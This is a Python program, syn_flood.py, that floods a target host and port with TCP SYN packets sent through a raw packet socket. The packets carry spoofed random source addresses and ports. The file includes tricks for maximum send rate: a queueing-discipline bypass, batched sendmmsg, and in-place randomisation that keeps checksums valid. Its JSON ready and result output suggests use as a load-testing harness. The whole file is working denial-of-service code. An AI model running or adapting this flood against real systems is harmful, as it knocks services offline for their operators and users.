#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends TCP SYNs from random sources, as many as the interface takes, until its standard input
ends. Prints {"ready": true} before the first, and at the end one JSON object: how many were sent,
in how many seconds, with how much CPU time.

    syn_flood.py INTERFACE MAC HOST PORT    MAC: of the next hop, HOST: an IPv4 address

Sources are random addresses of 10.0.0.0/8, all /16 networks of it equally often, with random ports
above 32767. Frames are made once and sent again and again. What is random about them is drawn anew
each time, such that no checksum changes: what one field grows by, another one shrinks by.
"""

import ctypes
import errno
import json
import os
import select
import socket
import struct
import sys
import time

FRAMES = 1 << 15  # in a round, made of batches; a multiple of the 256 networks
BATCH = 512  # frames in a system call
STRIDE, LENGTH = 64, 60  # bytes from one frame to the next, and bytes that are sent
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20

OPPOSITE = bytes(255 - byte for byte in range(256))
UPPER_HALF = bytes(byte | 128 for byte in range(256))


class IoVector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    """struct mmsghdr"""
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32),
                ("vectors", ctypes.POINTER(IoVector)), ("vector_count", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("padding", ctypes.c_int), ("sent", ctypes.c_uint),
                ("more_padding", ctypes.c_uint)]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def frame(link, network, host, port):
    """A SYN from 10.NETWORK.0.0; opposites of the zeros that randomise() fills are in it."""
    addresses = bytes((10, network, 0, 0)) + socket.inet_aton(host)
    tcp = struct.pack("!HHIIBBHHH", 0, port, 0xFFFFFFFF, 0, 5 << 4, 2, 64240, 0, 0)
    tcp = bytearray(tcp)
    struct.pack_into("!H", tcp, 16, checksum(addresses + struct.pack("!HH", 6, len(tcp)) + tcp))
    ip = bytearray(struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0xFFFF, 0, 64, 6, 0))
    struct.pack_into("!H", ip, 10, checksum(ip + addresses))
    return (link + ip + addresses + tcp).ljust(STRIDE, b"\0")


def randomise(frames):
    """Draws sources anew. The second half of the address has its opposite in the identification
    (for the checksum of IPv4) and in the sequence number (for that of TCP), the port in that."""
    for offset, opposites, values in ((28, (18, 40), None), (29, (19, 41), None),
                                      (34, (38,), UPPER_HALF), (35, (39,), None)):
        drawn = os.urandom(FRAMES)
        if values:
            drawn = drawn.translate(values)
        frames[offset::STRIDE] = drawn
        for opposite in opposites:
            frames[opposite::STRIDE] = drawn.translate(OPPOSITE)


def messages_of(frames):
    """Messages that send the frames as they are at the time."""
    start = ctypes.addressof((ctypes.c_char * len(frames)).from_buffer(frames))
    vectors = (IoVector * FRAMES)(*((start + i * STRIDE, LENGTH) for i in range(FRAMES)))
    messages = (Message * FRAMES)()
    for message, vector in zip(messages, vectors):
        message.vectors, message.vector_count = ctypes.pointer(vector), 1
    return messages, vectors  # these have to stay as long as those


def send_round(sendmmsg, descriptor, messages):
    """Sends every frame once; returns how many the interface took."""
    sent = 0
    for first in range(0, FRAMES, BATCH):
        taken = sendmmsg(descriptor, ctypes.byref(messages, first * ctypes.sizeof(Message)),
                         BATCH, 0)
        if taken > 0:
            sent += taken
        elif ctypes.get_errno() not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
            raise OSError(ctypes.get_errno(), "sendmmsg")
    return sent


def main():
    interface, mac, host, port = sys.argv[1:]
    sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        raw.bind((interface, 0))
        link = bytes.fromhex(mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00"
        networks = [frame(link, network, host, int(port)) for network in range(256)]
        frames = bytearray(b"".join(networks) * (FRAMES // 256))
        messages, vectors = messages_of(frames)
        print(json.dumps({"ready": True}), flush=True)
        sent, begin = 0, time.monotonic()
        while not select.select([sys.stdin], [], [], 0)[0]:
            randomise(frames)
            sent += send_round(sendmmsg, raw.fileno(), messages)
        seconds = time.monotonic() - begin
        del vectors
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3),
                      "cpu_seconds": round(time.process_time(), 3)}))


if __name__ == "__main__":
    main()
